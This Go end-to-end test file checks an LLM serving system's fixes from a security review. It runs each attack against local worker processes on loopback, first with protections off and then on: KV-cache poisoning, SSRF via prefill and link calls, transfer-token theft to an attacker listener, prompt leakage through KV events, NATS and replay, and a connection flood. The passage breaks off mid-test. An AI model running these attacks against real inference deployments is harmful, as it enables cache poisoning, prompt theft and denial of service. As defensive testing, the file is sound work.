package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"

	"github.com/tandemllm/tandem/authn"
	"github.com/tandemllm/tandem/control/discovery"
	"github.com/tandemllm/tandem/engine"
	"github.com/tandemllm/tandem/engine/mocker"
	"github.com/tandemllm/tandem/planes/kvevents"
	"github.com/tandemllm/tandem/planes/kvtransfer"
	"github.com/tandemllm/tandem/planes/requestplane"
	"github.com/tandemllm/tandem/tokenizer"
)

// The attacker's own address: a second address on the loopback interface
// (Linux routes all of 127.0.0.0/8 to lo), so every connection below
// crosses from another address to the workers' 127.0.0.2 listeners, as a
// stranger's would, rather than from the workers' own. A network
// namespace (TestDisaggSlowLink's kind) would be closer to another host;
// this needs no root, so it runs in every `go test ./...`.
const (
	victimHost   = "127.0.0.2"
	attackerHost = "127.0.0.3"
)

func attackerDialer() *net.Dialer {
	return &net.Dialer{Timeout: 3 * time.Second, LocalAddr: &net.TCPAddr{IP: net.ParseIP(attackerHost)}}
}

// attackNet is where the attacks run: the host the workers listen on, how
// their processes start, and how the attacker (this test process) opens
// sockets on its own host.
type attackNet struct {
	victimHost   string
	attackerHost string
	start        func(t *testing.T, name, args string) *osProc
	// startReady starts a process that reports ready with ready's match
	// (a vLLM-compatible worker prints a URL, not a request plane).
	startReady func(t *testing.T, name, args string, ready *regexp.Regexp) *osProc
	dial       func(ctx context.Context, network, addr string) (net.Conn, error)
	listen     func(network, addr string) (net.Listener, error)
}

// loopbackNet: workers on 127.0.0.2, the attacker on 127.0.0.3.
func loopbackNet() attackNet {
	return attackNet{
		victimHost: victimHost, attackerHost: attackerHost,
		start: func(t *testing.T, name, args string) *osProc { return startProc(t, name, args, workerReady) },
		startReady: func(t *testing.T, name, args string, ready *regexp.Regexp) *osProc {
			return startProc(t, name, args, ready)
		},
		dial:   attackerDialer().DialContext,
		listen: net.Listen,
	}
}

// TestAttacks runs each finding of the security review against real
// worker processes, first with the protections off (the attack works),
// then on (it is refused). Protections: mutual TLS on the request and KV
// transfer planes (--mtls-*), transfer tokens (always on) and the
// prefill worker's published-peers rule (--transfer-peers discovery, the
// default).
func TestAttacks(t *testing.T) {
	if testing.Short() {
		t.Skip("starts 4 processes")
	}
	if secure.on {
		t.Skip("runs its own open and protected configurations")
	}
	if l, err := net.Listen("tcp", attackerHost+":0"); err != nil {
		t.Skipf("no second loopback address: %v", err)
	} else {
		l.Close()
	}
	runAttacks(t, loopbackNet())
}

// runAttacks is TestAttacks on an attackNet.
func runAttacks(t *testing.T, an attackNet) {
	certs := t.TempDir()
	if _, err := authn.Init(certs, 1, 1, nil, time.Hour); err != nil {
		t.Fatal(err)
	}
	mtlsFlags := " --mtls-ca " + filepath.Join(certs, "ca.crt") + " --mtls-cert " + filepath.Join(certs, "worker-1.crt") +
		" --mtls-key " + filepath.Join(certs, "worker-1.key")
	frontendID, err := authn.Load(authn.Files{CA: filepath.Join(certs, "ca.crt"), Cert: filepath.Join(certs, "frontend-1.crt"), Key: filepath.Join(certs, "frontend-1.key")})
	if err != nil {
		t.Fatal(err)
	}
	const bpt = 1024
	victim := make([]engine.Token, 33) // two whole blocks and the last token
	for i := range victim {
		victim[i] = engine.Token(100 + i)
	}
	for _, tc := range []struct {
		name      string
		protected bool
	}{{"open", false}, {"protected", true}} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			flags := " --discovery file --discovery-dir " + dir + " --speedup 100 --kv-bytes-per-token 1024 --deregister-delay 0s" +
				" --rp-addr " + an.victimHost + ":0 --kv-transfer-addr " + an.victimHost + ":0"
			if tc.protected {
				flags += mtlsFlags
			} else {
				flags += " --transfer-peers any"
			}
			an.start(t, "d1", "worker --id d1 --role decode"+flags)
			an.start(t, "p1", "worker --id p1 --role prefill"+flags)
			dec, pre := readRecord(t, dir, "d1"), readRecord(t, dir, "p1")

			// What a frontend sees of the decode worker's cache: in the
			// protected run, over the frontend's own mTLS identity.
			legit := []grpc.DialOption{grpc.WithContextDialer(func(ctx context.Context, a string) (net.Conn, error) {
				return an.dial(ctx, "tcp", a)
			})}
			if tc.protected {
				legit = append(legit, grpc.WithTransportCredentials(credentials.NewTLS(frontendID.Client(authn.RoleWorker))))
			}
			cachedOnDecode := func() int {
				c, err := requestplane.Dial(dec.RequestPlane, legit...)
				if err != nil {
					t.Fatal(err)
				}
				defer c.Close()
				ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second) // generous: a loaded machine; a refusal returns at once
				defer cancel()
				a, err := requestplane.NewSide(c, requestplane.SideDesc{ID: "d1"}).Assess(ctx, victim, 0)
				if err != nil {
					t.Fatal(err)
				}
				return a.CachedTokens
			}
			stranger := func(addr string) *requestplane.Client {
				c, err := requestplane.Dial(addr, grpc.WithContextDialer(func(ctx context.Context, a string) (net.Conn, error) {
					return an.dial(ctx, "tcp", a)
				}))
				if err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { _ = c.Close() })
				return c
			}

			t.Run("work without the frontend", func(t *testing.T) {
				ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second) // generous: a loaded machine; a refusal returns at once
				defer cancel()
				st, err := stranger(dec.RequestPlane).Generate(ctx, &engine.Request{ID: "x", Prompt: []engine.Token{1, 2, 3}, MaxTokens: 4, IgnoreEOS: true})
				n := 0
				for err == nil {
					var d engine.Delta
					if d, err = st.Recv(); err == nil {
						n += len(d.Tokens)
					}
				}
				served := n > 0
				if served == tc.protected {
					t.Fatalf("a stranger's Generate: %d tokens (err %v); protected %v", n, err, tc.protected)
				}
			})

			t.Run("KV-cache poisoning", func(t *testing.T) {
				if got := cachedOnDecode(); got != 0 {
					t.Fatalf("the fresh decode worker already caches %d tokens", got)
				}
				// The attacker computes the victim prefix's blocks on its own
				// engine (garbage, as far as the victim is concerned), gets a
				// token the way a frontend does, and pushes them.
				eng, err := mocker.New(mocker.Config{Instant: true, KVBytesPerToken: bpt, KVCapacityTokens: 4096})
				if err != nil {
					t.Fatal(err)
				}
				defer eng.Close()
				drain(t, eng, victim)
				n, err := kvtransfer.NewNode(kvtransfer.Config{ID: "p1", Port: eng, Timeout: 5 * time.Second,
					Dial: an.dial})
				if err != nil {
					t.Fatal(err)
				}
				defer n.Close()
				ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second) // generous: a loaded machine; a refusal returns at once
				defer cancel()
				tok, terr := requestplane.NewSide(stranger(dec.RequestPlane), requestplane.SideDesc{ID: "d1"}).TransferToken(ctx, "p1", victim[:32], 0)
				_, serr := n.Send(ctx, kvtransfer.Peer{ID: "d1", Addr: dec.KVTransfer.Addr, Token: tok}, victim[:32], 0)
				got := cachedOnDecode()
				if tc.protected {
					if got != 0 || serr == nil {
						t.Fatalf("poisoned through mTLS: %d tokens cached (token %v, send %v)", got, terr, serr)
					}
					t.Logf("refused: token %v; send %v", terr, serr)
					return
				}
				if got != 32 {
					t.Fatalf("the open worker did not take the blocks: %d cached (token %v, send %v)", got, terr, serr)
				}
			})

			t.Run("SSRF through Prefill", func(t *testing.T) {
				// The prefill leg's blocks (and its prompt, in the Begin
				// frame) would go to the stranger's listener.
				lis, err := an.listen("tcp", an.attackerHost+":0")
				if err != nil {
					t.Fatal(err)
				}
				defer lis.Close()
				got := make(chan int64, 1)
				go func() {
					c, err := lis.Accept()
					if err != nil {
						got <- 0
						return
					}
					defer c.Close()
					var total int64
					buf := make([]byte, 64<<10)
					for {
						_ = c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
						n, err := c.Read(buf)
						total += int64(n)
						if err != nil {
							break
						}
					}
					got <- total
				}()
				ctx, cancel := context.WithTimeout(context.Background(), 8*time.Second)
				defer cancel()
				_, perr := requestplane.NewSide(stranger(pre.RequestPlane), requestplane.SideDesc{ID: "p1"}).PrefillAndSend(ctx,
					&engine.Request{ID: "ssrf", Prompt: victim, MaxTokens: 1}, kvtransfer.Peer{ID: "victim", Addr: lis.Addr().String()}, 0)
				lis.Close()
				n := <-got
				if tc.protected {
					if n != 0 || perr == nil {
						t.Fatalf("the prefill worker sent %d bytes to the stranger's address (err %v)", n, perr)
					}
					return
				}
				if n < 2*16*bpt {
					t.Fatalf("the open prefill worker sent %d bytes (err %v)", n, perr)
				}
				t.Logf("open: the prefill worker pushed %d bytes of KV to an address of the caller's choosing", n)
			})

			t.Run("SSRF through Link", func(t *testing.T) {
				lis, err := an.listen("tcp", an.attackerHost+":0")
				if err != nil {
					t.Fatal(err)
				}
				defer lis.Close()
				got := make(chan int64, 1)
				go func() {
					c, err := lis.Accept()
					if err != nil {
						got <- 0
						return
					}
					defer c.Close()
					_ = c.SetDeadline(time.Now().Add(5 * time.Second))
					// Answer the probe frames as a receiver would, counting bytes.
					var total int64
					hdr := make([]byte, 5)
					for {
						if _, err := io.ReadFull(c, hdr); err != nil {
							break
						}
						size := int64(hdr[1]) | int64(hdr[2])<<8 | int64(hdr[3])<<16 | int64(hdr[4])<<24
						m, _ := io.CopyN(io.Discard, c, size)
						total += m
						if _, err := c.Write([]byte{6, 4, 0, 0, 0, hdr[1], hdr[2], hdr[3], hdr[4]}); err != nil {
							break
						}
					}
					got <- total
				}()
				ctx, cancel := context.WithTimeout(context.Background(), 8*time.Second)
				defer cancel()
				_, lerr := requestplane.NewSide(stranger(pre.RequestPlane), requestplane.SideDesc{ID: "p1"}).
					LinkThroughput(ctx, kvtransfer.Peer{ID: "victim", Addr: lis.Addr().String()})
				lis.Close()
				bytes := <-got
				if tc.protected {
					if bytes != 0 || lerr == nil {
						t.Fatalf("the prefill worker sent %d bytes to the stranger's address (err %v)", bytes, lerr)
					}
					return
				}
				if bytes < 1<<20 {
					t.Fatalf("the open prefill worker sent %d bytes (err %v)", bytes, lerr)
				}
				t.Logf("open: the prefill worker sent %d bytes to an address of the caller's choosing", bytes)
			})

			t.Run("token theft through kv_transfer_params", func(t *testing.T) {
				kvParamsTheft(t, an, tc.protected, mtlsFlags)
			})
		})
	}
}

// TestSSRFWithoutMTLS: the published-peers rule holds even on an
// unauthenticated request plane: a prefill worker never dials an address
// discovery did not publish, whoever asks.
func TestSSRFWithoutMTLS(t *testing.T) {
	if testing.Short() || secure.on {
		t.Skip("starts a process")
	}
	dir := t.TempDir()
	startProc(t, "p1", "worker --id p1 --role prefill --discovery file --discovery-dir "+dir+" --rp-addr 127.0.0.1:0 --deregister-delay 0s", workerReady)
	pre := readRecord(t, dir, "p1")
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer lis.Close()
	accepted := make(chan bool, 1)
	go func() {
		c, err := lis.Accept()
		if err == nil {
			c.Close()
		}
		accepted <- err == nil
	}()
	c, err := requestplane.Dial(pre.RequestPlane)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	side := requestplane.NewSide(c, requestplane.SideDesc{ID: "p1"})
	_, lerr := side.LinkThroughput(ctx, kvtransfer.Peer{ID: "x", Addr: lis.Addr().String()})
	if kvtransfer.CodeOf(lerr) != kvtransfer.CodeRefusedPeer {
		t.Fatalf("Link to an unpublished address: %v", lerr)
	}
	prompt := make([]engine.Token, 33)
	_, perr := side.PrefillAndSend(ctx, &engine.Request{ID: "p", Prompt: prompt, MaxTokens: 1}, kvtransfer.Peer{ID: "x", Addr: lis.Addr().String()}, 0)
	if kvtransfer.CodeOf(perr) != kvtransfer.CodeRefusedPeer {
		t.Fatalf("Prefill to an unpublished address: %v", perr)
	}
	lis.Close()
	if <-accepted {
		t.Fatal("the prefill worker connected to an unpublished address")
	}
}

func readRecord(t *testing.T, dir, id string) discovery.Record {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, id+".json"))
	if err != nil {
		t.Fatal(err)
	}
	var e struct {
		Record discovery.Record `json:"record"`
	}
	if err := json.Unmarshal(b, &e); err != nil {
		t.Fatal(err)
	}
	return e.Record
}

func drain(t *testing.T, e engine.Engine, p []engine.Token) {
	t.Helper()
	st, err := e.Generate(context.Background(), &engine.Request{Prompt: p, MaxTokens: 1, IgnoreEOS: true})
	if err != nil {
		t.Fatal(err)
	}
	for {
		if _, err := st.Recv(); err != nil {
			return
		}
	}
}

// leakSink collects what a stranger subscribed to a worker's KV event
// socket learns.
type leakSink struct {
	mu     sync.Mutex
	stored int
	tokens []engine.Token
}

func (l *leakSink) HandleBatch(_ uint64, b *kvevents.Batch) {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, e := range b.Events {
		if e.Type == kvevents.TypeBlockStored {
			l.stored++
			l.tokens = append(l.tokens, e.TokenIDs...)
		}
	}
}
func (l *leakSink) HandleState(kvevents.StreamStatus) {}

func (l *leakSink) snapshot() (int, []engine.Token) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.stored, slices.Clone(l.tokens)
}

// TestPromptLeakKVEvents: a stranger subscribed to a worker's KV event
// socket reads another client's prompt from the token ids in the events;
// with --kv-events-token-ids=false it gets block hashes only, and the
// frontend's KV router still indexes the worker's cache from them.
func TestPromptLeakKVEvents(t *testing.T) {
	if testing.Short() || secure.on {
		t.Skip("starts 2 processes")
	}
	model, err := tokenizer.Default()
	if err != nil {
		t.Fatal(err)
	}
	const secret = "the vault passphrase is marmalade-tangerine-47"
	for _, tc := range []struct {
		name  string
		flags string
		leaks bool
	}{{"token ids", "", true}, {"hashes only", " --kv-events-token-ids=false", false}} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			disc := " --discovery file --discovery-dir " + dir + " --lease-ttl 2s"
			url := startProc(t, "frontend", "frontend --http-addr 127.0.0.1:0 --router-mode kv"+disc, frontendReady).line
			startProc(t, "w1", "worker --id w1 --speedup 100 --deregister-delay 0s --kv-events-endpoint tcp://"+victimHost+":0"+tc.flags+disc, workerReady)
			rec := readRecord(t, dir, "w1")
			sink := &leakSink{}
			sub, err := kvevents.NewSubscriber(kvevents.SubscriberConfig{Worker: "stranger", Endpoint: rec.KVEvents.Endpoint, Handler: sink})
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			go sub.Run(ctx)
			deadline := time.Now().Add(20 * time.Second)
			for !slices.Equal(healthWorkers(t, url), []string{"w1"}) {
				if time.Now().After(deadline) {
					t.Fatal("the frontend never saw the worker")
				}
				time.Sleep(50 * time.Millisecond)
			}
			time.Sleep(300 * time.Millisecond) // the stranger's and the router's subscriptions settle
			prompt := strings.Repeat("Some context before the secret. ", 8) + secret + strings.Repeat(" And some after it.", 8)
			for i := 0; i < 20; i++ {
				completion(t, url, map[string]any{"model": "tandem-mock", "prompt": prompt, "max_tokens": 2})
				if n, _ := sink.snapshot(); n > 0 && metricSum(getBody(t, url+"/metrics"), "tandem_router_kv_block_events_total") > 0 {
					break
				}
				time.Sleep(100 * time.Millisecond)
			}
			stored, toks := sink.snapshot()
			if stored == 0 {
				t.Fatal("the stranger received no BlockStored events at all")
			}
			leaked := strings.Contains(model.Tokenizer.Decode(toks), "marmalade-tangerine")
			if leaked != tc.leaks {
				t.Fatalf("prompt read from the events: %v (want %v); %d token ids", leaked, tc.leaks, len(toks))
			}
			if n := metricSum(getBody(t, url+"/metrics"), "tandem_router_kv_block_events_total"); n == 0 {
				t.Fatal("the frontend's router indexed nothing from the worker's events")
			}
		})
	}
}

// TestNATSStranger: an anonymous client of the frontend's embedded NATS
// server subscribes to tandem.> and reads the KV events (token ids
// included) and the routers' load messages; with a token and mutual TLS
// it cannot connect, while frontend and worker still exchange events.
// Load messages never carry the prompt, protected or not.
func TestNATSStranger(t *testing.T) {
	if testing.Short() || secure.on {
		t.Skip("starts 2 processes")
	}
	certs := t.TempDir()
	if _, err := authn.Init(certs, 1, 1, []string{victimHost}, time.Hour); err != nil {
		t.Fatal(err)
	}
	tokFile := filepath.Join(certs, "nats-token")
	if err := os.WriteFile(tokFile, []byte("nats-attack-test-token-0123456789\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	natsAuth := func(name string) string {
		return " --nats-token-file " + tokFile + " --nats-tls-ca " + filepath.Join(certs, "ca.crt") +
			" --nats-tls-cert " + filepath.Join(certs, name+".crt") + " --nats-tls-key " + filepath.Join(certs, name+".key")
	}
	model, err := tokenizer.Default()
	if err != nil {
		t.Fatal(err)
	}
	const secret = "the vault passphrase is marmalade-tangerine-47"
	prompt := strings.Repeat("Some context before the secret. ", 8) + secret + strings.Repeat(" And some after it.", 8)
	secretIDs := model.Tokenizer.Encode("marmalade")
	for _, tc := range []struct {
		name      string
		protected bool
	}{{"open", false}, {"protected", true}} {
		t.Run(tc.name, func(t *testing.T) {
			l, err := net.Listen("tcp", victimHost+":0")
			if err != nil {
				t.Fatal(err)
			}
			natsAddr := l.Addr().String()
			l.Close()
			dir := t.TempDir()
			disc := " --discovery file --discovery-dir " + dir + " --lease-ttl 2s"
			feAuth, wAuth := "", ""
			if tc.protected {
				feAuth, wAuth = natsAuth("frontend-1"), natsAuth("worker-1")
			}
			url := startProc(t, "frontend", "frontend --http-addr 127.0.0.1:0 --router-mode kv --event-plane nats --nats embedded --nats-addr "+natsAddr+feAuth+disc, frontendReady).line
			startProc(t, "w1", "worker --id w1 --speedup 100 --deregister-delay 0s --event-plane nats --nats nats://"+natsAddr+wAuth+disc, workerReady)
			deadline := time.Now().Add(20 * time.Second)
			for !slices.Equal(healthWorkers(t, url), []string{"w1"}) {
				if time.Now().After(deadline) {
					t.Fatal("the frontend never saw the worker")
				}
				time.Sleep(50 * time.Millisecond)
			}
			dialer := attackerDialer()
			nc, err := nats.Connect("nats://"+natsAddr, nats.SetCustomDialer(dialer), nats.Timeout(3*time.Second))
			if tc.protected {
				if err == nil {
					nc.Close()
					t.Fatal("an anonymous client connected to the protected NATS")
				}
			} else if err != nil {
				t.Fatalf("the open NATS refused an anonymous client: %v", err)
			}
			got := make(chan *nats.Msg, 1024)
			if nc != nil {
				defer nc.Close()
				if _, err := nc.ChanSubscribe("tandem.>", got); err != nil {
					t.Fatal(err)
				}
				_ = nc.Flush()
			}
			for i := 0; i < 20 && metricSum(getBody(t, url+"/metrics"), "tandem_router_kv_block_events_total") == 0; i++ {
				completion(t, url, map[string]any{"model": "tandem-mock", "prompt": prompt, "max_tokens": 2})
				time.Sleep(100 * time.Millisecond)
			}
			if metricSum(getBody(t, url+"/metrics"), "tandem_router_kv_block_events_total") == 0 {
				t.Fatal("the frontend received no KV events over NATS")
			}
			if tc.protected {
				return
			}
			time.Sleep(200 * time.Millisecond)
			var kv, load int
			for len(got) > 0 {
				m := <-got
				switch {
				case strings.HasPrefix(m.Subject, "tandem.kv."):
					kv++
				case strings.HasPrefix(m.Subject, "tandem.load."):
					load++
					if containsIDs(m.Data, secretIDs) {
						t.Fatalf("a load message carries the prompt's token ids")
					}
				}
			}
			if kv == 0 || load == 0 {
				t.Fatalf("the anonymous subscriber got %d KV and %d load messages", kv, load)
			}
			t.Logf("open: the anonymous subscriber read %d KV event and %d load messages", kv, load)
		})
	}
}

// containsIDs reports whether ids appear in b as consecutive u32 LE.
func containsIDs(b []byte, ids []engine.Token) bool {
	want := make([]byte, 0, 4*len(ids))
	for _, id := range ids {
		want = append(want, byte(id), byte(id>>8), byte(id>>16), byte(id>>24))
	}
	return len(want) > 0 && bytes.Contains(b, want)
}

// kvParamsTheft is issue 33's first finding: a client's request to a
// vLLM-compatible worker (--kv-transfer-params) names the attacker's own
// listener as remote_host:remote_port. Open (--kv-transfer-peers any), the
// worker POSTs /v1/kv/pull there carrying a transfer token for its own KV
// node; the attacker pushes its blocks with it, and the next user's
// identical prompt finds them cached. Protected (the peers list names
// only the prefill servers' host), nothing reaches the attacker's
// listener and nothing is cached.
func kvParamsTheft(t *testing.T, an attackNet, protected bool, mtlsFlags string) {
	const bpt = 1024
	args := "worker --openai-addr " + an.victimHost + ":0 --kv-transfer-params --kv-transfer-listen-host " + an.victimHost +
		" --speedup 100 --kv-bytes-per-token 1024 --kv-events off"
	if protected {
		args += " --kv-transfer-peers " + an.victimHost
	} else {
		args += " --kv-transfer-peers any"
	}
	url := an.startReady(t, "vllm-d", args, frontendReady).line
	client := &http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{DialContext: an.dial}}
	prompt := make([]engine.Token, 33)
	for i := range prompt {
		prompt[i] = engine.Token(300 + i)
	}
	complete := func(params map[string]any) (status, cached int) {
		body := map[string]any{"model": "tandem-mock", "prompt": prompt, "max_tokens": 1}
		if params != nil {
			body["kv_transfer_params"] = params
		}
		b, _ := json.Marshal(body)
		resp, err := client.Post(url+"/v1/completions", "application/json", bytes.NewReader(b))
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var c struct {
			Usage struct {
				Details struct {
					Cached int `json:"cached_tokens"`
				} `json:"prompt_tokens_details"`
			} `json:"usage"`
		}
		_ = json.NewDecoder(resp.Body).Decode(&c)
		return resp.StatusCode, c.Usage.Details.Cached
	}

	// The attacker's "side channel": it answers the pull by pushing its
	// own (garbage) blocks with the token the worker sent it.
	lis, err := an.listen("tcp", an.attackerHost+":0")
	if err != nil {
		t.Fatal(err)
	}
	eng, err := mocker.New(mocker.Config{Instant: true, KVBytesPerToken: bpt, KVCapacityTokens: 4096})
	if err != nil {
		t.Fatal(err)
	}
	defer eng.Close()
	drain(t, eng, prompt)
	node, err := kvtransfer.NewNode(kvtransfer.Config{ID: "evil", Port: eng, Timeout: 5 * time.Second, Dial: an.dial})
	if err != nil {
		t.Fatal(err)
	}
	defer node.Close()
	var mu sync.Mutex
	var pulls, pushed int
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var pr struct {
			From    int    `json:"from"`
			DstID   string `json:"dst_id"`
			DstAddr string `json:"dst_addr"`
			Token   []byte `json:"token"`
		}
		_ = json.NewDecoder(io.LimitReader(r.Body, 64<<10)).Decode(&pr)
		mu.Lock()
		pulls++
		mu.Unlock()
		st, err := node.Send(r.Context(), kvtransfer.Peer{ID: pr.DstID, Addr: pr.DstAddr, Token: pr.Token}, prompt[:32], pr.From)
		if err == nil {
			mu.Lock()
			pushed += st.Blocks
			mu.Unlock()
		}
		_, _ = io.WriteString(w, `{"blocks":0,"wanted":0,"bytes":0}`)
	})}
	go func() { _ = srv.Serve(lis) }()
	defer srv.Close()
	_, port, _ := net.SplitHostPort(lis.Addr().String())
	var portN int
	_, _ = fmt.Sscan(port, &portN)
	// The decode leg's cached tokens are what the pull brought: the
	// attacker's blocks, which stay in the prefix cache for the next user
	// of the same prompt.
	status, cached := complete(map[string]any{"do_remote_prefill": true, "do_remote_decode": false, "remote_engine_id": "evil",
		"remote_block_ids": []int{0, 1}, "remote_host": an.attackerHost, "remote_port": portN, "remote_request_id": "r1"})
	if status != 200 {
		t.Fatalf("the decode leg: status %d", status)
	}
	mu.Lock()
	p, b := pulls, pushed
	mu.Unlock()
	if protected {
		if p != 0 || b != 0 || cached != 0 {
			t.Fatalf("the worker pulled from the client's address: %d pulls, %d blocks pushed, %d tokens cached", p, b, cached)
		}
		t.Logf("attack_kv_params_token_theft protected: refused (0 pulls reached the client's listener, 0 tokens cached)")
		return
	}
	if p != 1 || b == 0 || cached != 32 {
		t.Fatalf("the open worker: %d pulls, %d blocks pushed, %d tokens cached", p, b, cached)
	}
	t.Logf("attack_kv_params_token_theft open: works (the token reached the client's listener; %d blocks pushed; %d of the client's tokens cached under the prompt)", b, cached)
}

// TestIdleFlood is issue 33's second finding, bounded: a stranger opens
// idle connections to every port of a decode worker whose descriptors are
// few (prlimit --nofile=256), 120 per port for a few seconds. Throughout,
// the frontend's address still reaches the request plane (routable), the
// worker's discovery record keeps being refreshed (no lapse), and its
// metrics answer; after the flood, no diagnostic stays raised. Without the
// per-source caps (--conn-max-per-source 0) the flood takes the worker's
// descriptors and the checks fail.
func TestIdleFlood(t *testing.T) {
	if testing.Short() || secure.on {
		t.Skip("starts a process")
	}
	if _, err := exec.LookPath("prlimit"); err != nil {
		t.Skipf("needs prlimit (util-linux): %v", err)
	}
	if l, err := net.Listen("tcp", attackerHost+":0"); err != nil {
		t.Skipf("no second loopback address: %v", err)
	} else {
		l.Close()
	}
	dir := t.TempDir()
	const ttl = 2 * time.Second
	startProcWith(t, "d1", "worker --id d1 --role decode --discovery file --discovery-dir "+dir+" --lease-ttl 2s --deregister-delay 0s"+
		" --rp-addr "+victimHost+":0 --kv-transfer-addr "+victimHost+":0 --metrics-addr "+victimHost+":0"+
		" --conn-max 512 --conn-max-per-source 16 --conn-handshake-timeout 1s --speedup 100",
		workerReady, []string{"prlimit", "--nofile=256", "--"})
	rec := readRecord(t, dir, "d1")
	ports := map[string]string{"request-plane": rec.RequestPlane, "kv-transfer": rec.KVTransfer.Addr, "metrics": rec.MetricsAddr}
	var flood []net.Conn
	defer func() {
		for _, c := range flood {
			c.Close()
		}
	}()
	for _, addr := range ports {
		for range 120 {
			c, err := attackerDialer().Dial("tcp", addr)
			if err != nil {
				continue // the backlog is full: refused, as it should be
			}
			flood = append(flood, c)
		}
	}
	hc := &http.Client{Timeout: 2 * time.Second}
	check := func(during bool) {
		t.Helper()
		info, err := os.Stat(filepath.Join(dir, "d1.json"))
		if err != nil || time.Since(info.ModTime()) >= ttl {
			t.Fatalf("the discovery record lapsed (%v)", err)
		}
		resp, err := hc.Get("http://" + rec.MetricsAddr + "/metrics")
		if err != nil {
			t.Fatalf("metrics: %v", err)
		}
		m, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if during && metricSum(string(m), "tandem_listener_refused_total") == 0 {
			t.Fatalf("no refusal counted:\n%s", grepLines(string(m), "tandem_listener"))
		}
		c, err := requestplane.Dial(rec.RequestPlane)
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		st, err := c.Generate(ctx, &engine.Request{ID: "legit", Prompt: []engine.Token{1, 2, 3}, MaxTokens: 2, IgnoreEOS: true})
		n := 0
		for err == nil {
			var d engine.Delta
			if d, err = st.Recv(); err == nil {
				n += len(d.Tokens)
			}
		}
		if n == 0 {
			t.Fatalf("the frontend's request failed during the flood: %v", err)
		}
	}
	for end := time.Now().Add(3 * time.Second); time.Now().Before(end); time.Sleep(300 * time.Millisecond) {
		check(true)
	}
	kept := 0
	for _, c := range flood {
		_ = c.SetReadDeadline(time.Now().Add(10 * time.Millisecond))
		if _, err := c.Read(make([]byte, 1)); errors.Is(err, os.ErrDeadlineExceeded) {
			kept++ // still open (timed out reading): only the per-source share
		}
		c.Close()
	}
	flood = nil
	deadline := time.Now().Add(10 * time.Second)
	for {
		resp, err := hc.Get("http://" + rec.MetricsAddr + "/health")
		if err == nil {
			var h struct {
				Status      string `json:"status"`
				Diagnostics []any  `json:"diagnostics"`
			}
			_ = json.NewDecoder(resp.Body).Decode(&h)
			resp.Body.Close()
			if h.Status == "ok" && len(h.Diagnostics) == 0 {
				break
			}
			if time.Now().After(deadline) {
				t.Fatalf("diagnostics still raised after the flood: %+v", h)
			}
		} else if time.Now().After(deadline) {
			t.Fatal(err)
		}
		time.Sleep(100 * time.Millisecond)
	}
	check(false)
	t.Logf("attack_idle_flood protected: 360 idle connections from one address; %d were still open at the end (per-source caps of 16 per port, handshake deadline 1 s); routable, record fresh, metrics answering throughout; no diagnostic after", kept)
}

// TestReplayHistoryLeak is issue 33's third finding: a local process that
// joins a worker's KV event sockets after another client's request asks
// the replay socket for the history and reads that prompt from the past
// batches' token ids. Now the replay answers history only to a router
// that presents the worker's replay token (published in discovery): the
// stranger learns only what is published after it joined.
func TestReplayHistoryLeak(t *testing.T) {
	if testing.Short() || secure.on {
		t.Skip("starts 2 processes")
	}
	model, err := tokenizer.Default()
	if err != nil {
		t.Fatal(err)
	}
	const secret = "the vault passphrase is marmalade-tangerine-47"
	dir := t.TempDir()
	disc := " --discovery file --discovery-dir " + dir + " --lease-ttl 2s"
	url := startProc(t, "frontend", "frontend --http-addr 127.0.0.1:0 --router-mode kv"+disc, frontendReady).line
	startProc(t, "w1", "worker --id w1 --speedup 100 --deregister-delay 0s --kv-events-endpoint tcp://"+victimHost+":0"+disc, workerReady)
	rec := readRecord(t, dir, "w1")
	if rec.KVEvents.ReplayEndpoint == "" || rec.KVEvents.ReplayToken == "" {
		t.Fatalf("the worker publishes no replay socket or token: %+v", rec.KVEvents)
	}
	deadline := time.Now().Add(20 * time.Second)
	for !slices.Equal(healthWorkers(t, url), []string{"w1"}) {
		if time.Now().After(deadline) {
			t.Fatal("the frontend never saw the worker")
		}
		time.Sleep(50 * time.Millisecond)
	}
	prompt := strings.Repeat("Some context before the secret. ", 8) + secret + strings.Repeat(" And some after it.", 8)
	completion(t, url, map[string]any{"model": "tandem-mock", "prompt": prompt, "max_tokens": 2})

	// The stranger joins afterwards, with replay, and without the token.
	sink := &leakSink{}
	sub, err := kvevents.NewSubscriber(kvevents.SubscriberConfig{Worker: "stranger", Endpoint: rec.KVEvents.Endpoint,
		ReplayEndpoint: rec.KVEvents.ReplayEndpoint, Handler: sink})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go sub.Run(ctx)
	time.Sleep(300 * time.Millisecond)
	other := strings.Repeat("An unrelated request that the stranger may see live. ", 4)
	for i := 0; i < 20; i++ {
		completion(t, url, map[string]any{"model": "tandem-mock", "prompt": other + fmt.Sprint(i), "max_tokens": 2})
		if n, _ := sink.snapshot(); n > 0 {
			break
		}
